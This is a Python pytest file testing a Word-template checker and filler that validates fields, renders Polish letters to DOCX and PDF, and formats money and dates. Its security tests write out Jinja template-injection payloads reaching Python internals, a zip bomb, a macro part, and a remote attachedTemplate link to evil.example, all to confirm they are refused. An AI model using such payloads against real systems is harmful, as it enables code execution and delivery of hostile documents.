"""Checking Word templates and filling them in, without a database."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pypdfium2
import pytest
from docx import Document

from core.errors import InvalidInput
from documents.templates import checking, filling
from documents.templates.shapes import samples
from documents.templates.writing import day, money, number
from tests.template_samples import CATALOGUE, letter


def check(folder: Path, content: bytes) -> dict[str, Any]:
    (folder / "template.docx").write_bytes(content)
    return checking.run({"catalogue": [each.plain() for each in CATALOGUE], "language": "pl"}, folder)


def fill(folder: Path, content: bytes, *records: dict[str, Any], pdf: bool = True) -> list[str | None]:
    (folder / "template.docx").write_bytes(content)
    wanted = {"languages": ["pl"] * len(records), "title": "Oferta", "pdf": pdf}
    order = {"records": records, "at": "2026-01-05T07:00:00+00:00", **wanted}
    return filling.run(order, folder)


def text_of(content: bytes) -> str:
    pages = pypdfium2.PdfDocument(content)
    try:
        return "\n".join(page.get_textpage().get_text_bounded() for page in pages)
    finally:
        pages.close()


def test_a_right_template_has_no_findings_and_tells_its_fields(tmp_path: Path) -> None:
    found = check(tmp_path, letter("Szanowni Państwo {{ customer.name }}", table=True, footer="{{ today|date }}"))

    assert found["findings"] == []
    assert found["fields"] == [
        "customer",
        "customer.name",
        "offer",
        "offer.lines",
        "offer.lines.description",
        "offer.lines.net",
        "today",
    ]


@pytest.mark.parametrize(
    ("text", "sentence", "place"),
    [
        ("Dear {{ custmer.name }},", "There is no field custmer; did you mean customer?", "“Dear {{ custmer.name }},”"),
        ("{{ customer.naame }}", "customer has no field naame; did you mean name?", "in the text"),
        ("{{ customer.address.town }}", "customer.address has no field town.", "in the text"),
        ("{{ offer.lines.net }}", "offer.lines is a list", "in the text"),
        ("{% for each in offer.number %}{% endfor %}", "offer.number is no list", "in the text"),
        ("{% for each in offer.lines %}{{ each.price }}{% endfor %}", "offer.lines has no field price", "each.price"),
        ("{{ customer.name|moneyy }}", "No filter named 'moneyy'", "in the text"),
        ("{{ customer.name", "unexpected", "in the text"),
        ("{% if customer.name %}x", "Unexpected end of template", "in the text"),
        ("{% include 'secret' %}", "cannot take in other files", "in the text"),
    ],
)
def test_what_is_wrong_is_named_with_its_place(tmp_path: Path, text: str, sentence: str, place: str) -> None:
    found = check(tmp_path, letter("First", text, "Last"))["findings"]

    assert found
    assert sentence in found[0]["sentence"]
    assert place in found[0]["place"]


def test_a_trouble_in_the_footer_is_placed_there(tmp_path: Path) -> None:
    (found,) = check(tmp_path, letter(footer="{{ tody }}"))["findings"]

    assert found["place"] == "in the footer, near “{{ tody }}”"


def test_a_letter_is_filled_in_as_word_and_as_pdf(tmp_path: Path) -> None:
    template = letter("Dla {{ customer.name }}, {{ today|date('long') }}", table=True, footer="{{ customer.name }}")

    assert fill(tmp_path, template, samples(CATALOGUE)) == [None]

    words = "\n".join(each.text for each in Document(str(tmp_path / "0.docx")).paragraphs)
    assert "Dla Zażółć Gęślą sp. z o.o., 5 stycznia 2026" in words
    shown = text_of((tmp_path / "0.pdf").read_bytes())
    assert "Zażółć Gęślą" in shown
    assert shown.count("Pompa obiegowa") == 2
    assert "1\u00a0000,00" in shown or "1 000,00" in shown


def test_what_a_customer_wrote_is_never_code(tmp_path: Path) -> None:
    record = samples(CATALOGUE)
    record["customer"]["name"] = "<w:br/> & {{ 7*7 }} #panic() $x$ *b* _i_ \\ @ref"

    assert fill(tmp_path, letter("{{ customer.name }}"), record) == [None]

    assert "<w:br/> & {{ 7*7 }} #panic() $x$ *b* _i_ \\ @ref" in text_of((tmp_path / "0.pdf").read_bytes())


def test_one_bad_letter_does_not_stop_the_others(tmp_path: Path) -> None:
    whole, without = samples(CATALOGUE), samples(CATALOGUE)
    del without["customer"]

    told = fill(tmp_path, letter("{{ customer.name }}"), whole, without, whole)

    assert (told[0], told[2]) == (None, None)
    assert "customer" in str(told[1])


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ customer.name.__class__ }}",
        "{{ ''|attr('__class__') }}",
        "{{ self.__init__.__globals__ }}",
    ],
)
def test_a_template_reaches_nothing_of_python(tmp_path: Path, attack: str) -> None:
    (told,) = fill(tmp_path, letter(attack), samples(CATALOGUE), pdf=False)

    words = "" if told else "\n".join(each.text for each in Document(str(tmp_path / "0.docx")).paragraphs)
    assert "class" not in words


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 nothing", b"%PDF-1.7"])
def test_what_is_no_word_document_is_refused(tmp_path: Path, content: bytes) -> None:
    with pytest.raises(InvalidInput, match="no Word document"):
        check(tmp_path, content)


def _with(content: bytes, name: str, part: bytes) -> bytes:
    made = io.BytesIO(content)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, part)
    return made.getvalue()


def test_a_zip_bomb_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="The Word document unpacks to more than"):
        check(tmp_path, _with(letter("x"), "word/bomb.xml", b"0" * (101 << 20)))


def test_macros_are_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="macros"):
        check(tmp_path, _with(letter("x"), "word/vbaProject.bin", b"x"))


def test_what_would_be_fetched_by_the_reader_is_refused(tmp_path: Path) -> None:
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )

    with pytest.raises(InvalidInput, match="from elsewhere"):
        check(tmp_path, _with(letter("x"), "word/_rels/settings.xml.rels", relation))


def test_amounts_and_dates_follow_the_language() -> None:
    assert money("12345.6", "pl", "PLN") == "12\u00a0345,60\u00a0PLN"
    assert money("12345.6", "en", "PLN") == "12,345.60\u00a0PLN"
    assert (number("1250", "en"), number("0.50", "pl"), number("abc", "pl"), number(None, "pl")) == (
        "1,250",
        "0,5",
        "abc",
        "",
    )
    assert (day("2026-01-05", "pl"), day("2026-01-05", "ro", "long"), day("soon", "pl")) == (
        "05.01.2026",
        "5 ianuarie 2026",
        "soon",
    )
